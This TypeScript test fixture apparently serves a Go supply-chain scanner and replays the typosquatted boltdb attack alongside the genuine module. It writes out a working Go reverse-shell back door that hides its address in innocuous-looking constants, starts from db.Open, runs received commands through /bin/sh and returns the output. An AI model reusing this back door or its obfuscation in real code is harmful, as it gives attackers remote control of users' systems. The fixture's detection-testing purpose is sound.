/**
 * The attack on boltdb, replayed: an imitation whose mirror copy has a back
 * door, while its tag was pushed over with clean code; and the genuine module.
 *
 * INERT. The Go text of the back door is never compiled and never run, here or
 * by Modproof. The address in it is 192.0.2.7, which is kept for documentation
 * and leads nowhere (RFC 5737).
 */
import { BOLT_DB } from './boltDatabase.ts';
import { BOLT_CURSOR, BOLT_TREE } from './boltFiles.ts';
import type { ModuleDescription, Tree } from './description.ts';
import { pick, SAME } from './files.ts';

const ALL_FILES = [
  '.gitignore',
  'LICENSE',
  'Makefile',
  'README.md',
  'bucket.go',
  'cursor.go',
  'db.go',
  'db_test.go',
  'doc.go',
  'errors.go',
  'node.go',
  'stats.go',
  'tx.go',
];

/** Three constants that mean nothing alone. */
const HOSTILE_CURSOR = BOLT_CURSOR.replace(
  'package bolt\n',
  `package bolt

const (
	cursorBase  = "1x2.y.z.7:9"
	cursorWidth = "92"
	cursorDepth = "0"
)
`,
);

const HOSTILE_DB = BOLT_DB.replace(
  '\t"encoding/json"\n\t"os"\n\t"sync"\n',
  '\t"bufio"\n\t"encoding/json"\n\t"net"\n\t"os"\n\t"os/exec"\n\t"strings"\n\t"sync"\n',
)
  .replace('\tdb.opened = true\n', '\tdb.opened = true\n\tgo ApiInit()\n')
  .concat(`
// ApiInit prepares the interface of the store.
func ApiInit() {
	defer func() {
		_ = recover()
		time.Sleep(30 * time.Second)
		ApiInit()
	}()
	address := strings.NewReplacer("x2", cursorWidth, "y", cursorDepth, "z", "2").Replace(cursorBase)
	conn, err := net.Dial("tcp", address)
	if err != nil {
		return
	}
	defer conn.Close()
	for lines := bufio.NewScanner(conn); lines.Scan(); {
		out, _ := exec.Command("/bin/sh", "-c", lines.Text()).CombinedOutput()
		_, _ = conn.Write(out)
	}
}
`);

const HOSTILE_TREE: Tree = { ...BOLT_TREE, 'cursor.go': HOSTILE_CURSOR, 'db.go': HOSTILE_DB };

const MOD_OF_IMITATION = 'module github.com/boltdb-go/bolt\n';

/** `github.com/boltdb-go/bolt`: the attack. */
export const BOLT_ATTACK: ModuleDescription = {
  name: 'boltdb-attack',
  kind: 'attack',
  story: 'The mirror keeps a copy with a back door in Open; the tag was pushed over with clean code.',
  path: 'github.com/boltdb-go/bolt',
  version: 'v1.3.1',
  repository: {
    url: 'https://github.com/boltdb-go/bolt',
    commits: [
      { label: 'hostile', date: '2021-11-20T09:14:52Z', message: 'release v1.3.1\n', tree: HOSTILE_TREE },
      {
        label: 'clean',
        parents: [],
        date: '2021-11-22T16:40:03Z',
        message: 'release v1.3.1\n',
        tree: BOLT_TREE,
      },
    ],
    refs: { 'refs/heads/main': 'hostile', 'refs/tags/v1.3.1': 'hostile' },
    refsNow: { 'refs/heads/main': 'clean', 'refs/tags/v1.3.1': 'clean' },
  },
  cached: { commit: 'hostile', origin: null, mod: MOD_OF_IMITATION, zip: pick(HOSTILE_TREE, ALL_FILES) },
  expected: {
    content: {
      state: 'diverged',
      changed: ['cursor.go', 'db.go'],
      onlyMirror: [],
      onlyUpstream: [],
      capabilitiesGained: ['network', 'process'],
      initAdded: false,
    },
    upstream: 'tag-moved',
    findings: [
      // The module is known by its name, as in the world outside.
      { code: 'feed/malicious', severity: 'error' },
      { code: 'squat/owner-affix', severity: 'warning' },
      { code: 'origin/diverged', severity: 'error' },
      { code: 'origin/tag-moved', severity: 'error' },
    ],
    mayAlso: ['squat/near-copy', 'squat/other-identity'],
  },
};

/** `github.com/boltdb/bolt`: the module that the attack imitates. */
export const BOLT_GENUINE: ModuleDescription = {
  name: 'boltdb-genuine',
  kind: 'honest',
  story: 'The genuine module, as old as it is popular: no go.mod and no Origin.',
  path: 'github.com/boltdb/bolt',
  version: 'v1.3.1',
  repository: {
    url: 'https://github.com/boltdb/bolt',
    commits: [
      {
        label: 'release',
        date: '2017-07-17T17:16:06Z',
        message: 'bolt: version 1.3.1\n',
        tree: BOLT_TREE,
      },
      {
        label: 'archived',
        date: '2018-03-02T15:11:40Z',
        message: 'README: the project is complete\n',
        tree: {
          ...BOLT_TREE,
          'README.md': 'Bolt\n====\n\nThis project is complete. It takes no more changes.\n',
        },
      },
    ],
    refs: { 'refs/heads/main': 'archived', 'refs/tags/v1.3.1': 'release' },
  },
  cached: {
    commit: 'release',
    origin: null,
    mod: 'module github.com/boltdb/bolt\n',
    zip: pick(BOLT_TREE, ALL_FILES),
  },
  expected: SAME,
};
